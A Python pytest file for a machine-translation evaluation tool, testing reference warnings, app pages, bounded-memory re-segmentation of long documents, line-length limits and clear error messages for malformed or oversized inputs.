    (tmp_path / "copy.txt").write_text(real.read_text(encoding="utf-8"), encoding="utf-8")
    clean = Study.from_files([real], [tmp_path / "copy.txt"], docids=tmp_path / "ids", engine=eng)
    assert not clean.reference_warnings() and not clean.off_target_warnings()


def test_real_references_raise_no_reference_warning():
    """Every reference of WMT24 (nine pairs, refB of en-de too) and of TED zh-en as released: no warning."""
    from blonde_core.study import Engine, Study

    eng = Engine(cache_mode="off")
    for lp in Study.wmt_pairs(WMT24):
        assert Study.from_wmt(WMT24, lp, engine=eng).reference_warnings() == {}, lp
    ted = SHARED / "data" / "ted-zhen"
    s = Study.from_files(sorted((ted / "refs").glob("*.txt")), [ted / "systems" / "SMU.txt"],
                         docids=ted / "docids.txt", engine=eng)
    assert s.reference_warnings() == {}


def test_the_data_page_and_the_overview_show_reference_problems(tmp_path):
    """The Data page says the reference's empty document in a warning, with the sentence per reference a click
    away; the Overview carries one line about it under the leaderboard."""
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=240)
    at.run()
    at.switch_page("pages/data.py").run()
    ref = _reference_with({"trip": [""]}).encode()
    at.file_uploader(key="up_refs").set_value([("reference.txt", ref, "text/plain")])
    at.file_uploader(key="up_sys").set_value([(Path(p).name, Path(p).read_bytes(), "text/plain")
                                              for p in sample_paths()[:2]])
    at.file_uploader(key="up_docids").set_value(("docids.txt", (SAMPLE / "docids.txt").read_bytes(), "text/plain"))
    at.button(key="FormSubmitter:files-Analyse these files").click().run()
    assert not at.exception
    said = [w.value.replace("\\", "") for w in at.warning if "The reference has problems" in w.value]  # md-escaped
    assert said and "reference 'reference': 1 document empty" in said[0], [w.value for w in at.warning]
    assert any("'trip'" in c.value for c in at.caption)
    at.switch_page("pages/overview.py").run()
    assert not at.exception
    assert any(e.label.replace("\\", "").startswith("Reference: reference 'reference': 1 document empty")
               for e in at.expander), [e.label for e in at.expander]


# -- point 8: re-segmentation of a long document bounded --------------------------------------------------------

def _long_document(n: int):
    from test_resegment import join_every_third

    w = SHARED / "data" / "wmt22-zhen"
    ref = (w / "refs" / "refA.txt").read_text(encoding="utf-8").splitlines()[:n]
    orig = (w / "systems" / "Online-A.txt").read_text(encoding="utf-8").splitlines()[:n]
    return ref, orig, join_every_third(orig)


def test_windows_cut_a_long_document_as_the_whole_alignment_does(monkeypatch):
    """300 WMT22 segments (a system that joined every third): aligned in windows of 2,000 tokens (forced here; a
    document of ~400 segments or more is windowed) the cut is the whole alignment's in at least 99% of the
    segments, and rebuilt from the system's own words."""
    from blonde_core.io import resegment as R

    ref, _, hyp = _long_document(300)
    whole = R._align_one(ref, hyp, "en")
    monkeypatch.setattr(R, "WHOLE_CELLS", 0)
    windowed = R._align_one(ref, hyp, "en")
    assert len(windowed) == len(ref)
    assert " ".join(windowed).split() == " ".join(hyp).split()
    assert sum(a == b for a, b in zip(windowed, whole)) >= 0.99 * len(ref)


def test_a_long_document_is_resegmented_in_linear_time_and_bounded_memory():
    """1,600 segments through the real child process (the review: 1,000 took 9.3 s and 279 MB, 2,000 42.5 s and
    991 MB): cut into 1,600 segments within 15 s, the aligner's peak below 150 MB (bench_resegment_long.py: 4,000
    in ~5 s and ~50 MB)."""
    code = ("import json, resource, sys, time\nsys.path[:0] = [%r, %r]\n"
            "from test_hostile import _long_document\nfrom blonde_core.io.resegment import resegment\n"
            "ref, _, hyp = _long_document(1600)\nt0 = time.perf_counter()\ncut = resegment([(ref, hyp)], 'en')\n"
            "print(json.dumps([len(cut[0]), time.perf_counter() - t0, "
            "resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024]))\n" % (str(ROOT), str(ROOT / "tests")))
    p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, timeout=120,
                       env={**os.environ, "BLONDE_SHARED_DIR": str(SHARED)})
    assert p.returncode == 0, p.stderr[-800:]
    n, secs, peak = json.loads(p.stdout.strip().splitlines()[-1])
    assert n == 1600 and secs < 15 and peak < 150, (n, secs, peak)


def test_a_document_too_long_to_align_is_refused_at_once_naming_it():
    from blonde_core.io.resegment import MAX_CELLS, too_long

    ref = ["The cat sat on the mat and looked at the birds in the old garden."] * 150
    said = too_long(ref, ["word " * 1_900] * 130, "en")
    assert said and said.startswith("too long to re-segment: 247,000 system tokens against 2,250 reference tokens")
    assert f"at most {MAX_CELLS:,}" in said
    assert too_long(ref, ref[:100], "en") is None and too_long(ref[:3], ["word " * 1_900] * 130, "en") is None


def test_a_failed_aligner_says_what_happened_and_mweralign_missing_is_said_only_when_it_is():
    """The aligner's child out of memory (a real cap on its address space) is said as what it was, never "is
    mweralign installed?"; without mweralign importable (python -S: no site-packages) it says so."""
    tail = ("from blonde_core.io.resegment import _resegment\n"
            "try:\n    _resegment([(ref, hyp)], 'en')\n    print('OK')\nexcept RuntimeError as exc:\n    print(exc)\n")
    w = SHARED / "data" / "wmt22-zhen"  # 380 segments, the system's joined in pairs: one whole alignment, ~70 MB
    capped = ("import resource, sys\nsys.path.insert(0, %r)\n"
              "ref = open(%r, encoding='utf-8').read().splitlines()[:380]\n"
              "sys_ = open(%r, encoding='utf-8').read().splitlines()[:380]\n"
              "hyp = [sys_[i] + ' ' + sys_[i + 1] for i in range(0, 380, 2)]\n"
              "resource.setrlimit(resource.RLIMIT_AS, (50 * 2**20, resource.RLIM_INFINITY))\n" % (
                  str(ROOT), str(w / "refs" / "refA.txt"), str(w / "systems" / "Online-A.txt"))) + tail
    p = subprocess.run([sys.executable, "-c", capped], capture_output=True, text=True, cwd=ROOT, timeout=120,
                       env={**os.environ, "BLONDE_SHARED_DIR": str(SHARED)})
    said = p.stdout.strip()
    assert "the aligner's process" in said and ("MemoryError" in said or "killed" in said), (said, p.stderr[-500:])
    assert "installed" not in said
    bare = "import sys\nsys.path.insert(0, %r)\nref, hyp = ['A b.', 'C d.'], ['A b. C d.']\n" % str(ROOT) + tail
    p = subprocess.run([sys.executable, "-S", "-c", bare], capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert p.stdout.strip() == "mweralign is not installed (pip install mweralign): re-segmentation runs its aligner"


def test_the_line_limit_can_be_raised_by_the_environment_and_holds_for_spans(capsys, tmp_path, monkeypatch):
    lines = (SAMPLE / "consistent.txt").read_text(encoding="utf-8").splitlines()
    lines[2] = "word " * 2_400  # 12,000 characters
    f = tmp_path / "long.txt"
    f.write_text("\n".join(lines) + "\n", encoding="utf-8")
    code, _, err = run(capsys, "spans", "-i", f, "--lang", "en")
    assert code == 2 and f"{f}, line 3: a line of 12,000 characters; the command line reads at most 10,000" in err
    monkeypatch.setenv("BLONDE_MAX_LINE_CHARS", "11000")
    code, _, err = run(capsys, "score", "-r", SAMPLE / "reference.txt", "-s", f, "--docids", SAMPLE / "docids.txt",
                       "--metrics", "chrF")
    assert code == 2 and "line 3" in err and "at most 11,000 characters per line (--max-line-chars" in err
    monkeypatch.setenv("BLONDE_MAX_LINE_CHARS", "many")
    code, _, err = run(capsys, "score", "-r", SAMPLE / "reference.txt", "-s", f, "--metrics", "chrF")
    assert code == 2 and "BLONDE_MAX_LINE_CHARS='many'" in err


# -- point 9: messages that say what happened ------------------------------------------------------------------

def test_a_zip_system_named_as_the_reference_with_the_same_text_is_the_reference_silently(capsys, tmp_path):
    """refA.txt under system-outputs with the reference's own text is that reference, loaded once (no word); with
    another text it is said (stderr and JSON test_set_left_out)."""
    same = tmp_path / "same.zip"
    same.write_bytes(_layout_zip(b"Eins.\nZwei.\n", [("wmt/system-outputs/en-de/refA.txt", "One line.\nTwo lines.\n")]))
    code, out, err = run(capsys, "score", "--wmt-dir", same, "--metrics", "chrF", "--format", "json")
    assert code == 0 and "refA" not in json.loads(out)["systems"] and "not loaded as a system" not in err
    other = tmp_path / "other.zip"
    other.write_bytes(_layout_zip(b"Eins.\nZwei.\n", [("wmt/system-outputs/en-de/refA.txt", "One line.\nOther.\n")]))
    code, out, err = run(capsys, "score", "--wmt-dir", other, "--metrics", "chrF", "--format", "json")
    assert code == 0 and "(1 of 2 lines differ); rename it to score it as a system" in err
    assert any("system-outputs/en-de/refA.txt" in x for x in json.loads(out)["test_set_left_out"])
